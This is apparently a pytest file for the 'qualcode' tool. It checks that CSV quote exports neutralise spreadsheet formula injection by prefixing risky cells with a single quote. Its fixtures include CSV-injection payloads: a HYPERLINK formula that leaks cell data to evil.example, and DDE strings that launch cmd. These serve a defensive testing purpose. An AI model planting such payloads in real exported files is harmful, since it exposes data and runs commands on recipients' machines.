"""Issue 11, class 14: ``export quotes x.csv`` never writes a cell a spreadsheet would run as a formula.

Found: cells starting with = + - @, tab or CR were written unchanged (the .xlsx
export was already safe). OWASP's advice: prefix such a cell with a single quote.
"""

from __future__ import annotations

import csv
import json

import pytest
from core_helpers import run_qualcode

from qualcode.report.tables import FORMULA_PREFIXES, csv_safe

PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


@pytest.mark.parametrize("prefix", sorted(PAYLOADS))
def test_every_formula_prefix_is_neutralised_in_memo_and_quote(tmp_path, project_path, prefix):
    from qualcode.coding import codings
    from qualcode.store.project import Project

    payload = PAYLOADS[prefix]
    with Project.open(project_path) as project:
        codings.apply(project, "FG9", "2", "werkwijze", "tester", memo=payload)
    out = tmp_path / "quotes.csv"
    result = run_qualcode(
        "--project",
        str(project_path),
        "export",
        "quotes",
        str(out),
        "--coder",
        "tester",
        "--json",
        "--csv-dialect",
        "en",
        cwd=tmp_path,
    )
    assert result.returncode == 0, result.stderr
    with out.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0][7] in ("memo", "Memo")  # headers follow --lang (Dutch default: "Memo")
    memo = rows[1][7]
    assert memo.startswith("'") and not memo.startswith(FORMULA_PREFIXES)
    assert memo[1:].lstrip("\t").startswith(payload.lstrip("\t\r")[:1])  # the text itself is kept
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), (prefix, cell)
    warnings = json.loads(result.stdout)["warnings"]
    assert any("got a leading '" in w for w in warnings)


def test_a_quote_starting_with_a_dash_is_neutralised_too(tmp_path):
    (tmp_path / "FG1.txt").write_text("- ja precies\n=SOM(A1)\n@iedereen\ngewoon\n", encoding="utf-8")
    from core_helpers import CODEBOOK

    assert run_qualcode("init", "--codebook", str(CODEBOOK), cwd=tmp_path).returncode == 0
    assert run_qualcode("import", "FG1.txt", cwd=tmp_path).returncode == 0
    for n in ("1", "2", "3", "4"):
        assert run_qualcode("code", "FG1", n, "werkwijze", cwd=tmp_path).returncode == 0
    assert run_qualcode("export", "quotes", "q.csv", "--csv-dialect", "en", cwd=tmp_path).returncode == 0
    with (tmp_path / "q.csv").open(encoding="utf-8-sig", newline="") as f:
        texts = [row[6] for row in list(csv.reader(f))[1:]]
    assert texts == ["'- ja precies", "'=SOM(A1)", "'@iedereen", "gewoon"]


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@a", "\t1", "\r1"])
def test_csv_safe_prefixes_each_dangerous_start(value):
    assert csv_safe(value) == ("'" + value, True)


@pytest.mark.parametrize("value", ["1-2", "FG1", "", " =1", "'=1", "é=1"])
def test_csv_safe_leaves_ordinary_cells_alone(value):
    assert csv_safe(value) == (value, False)
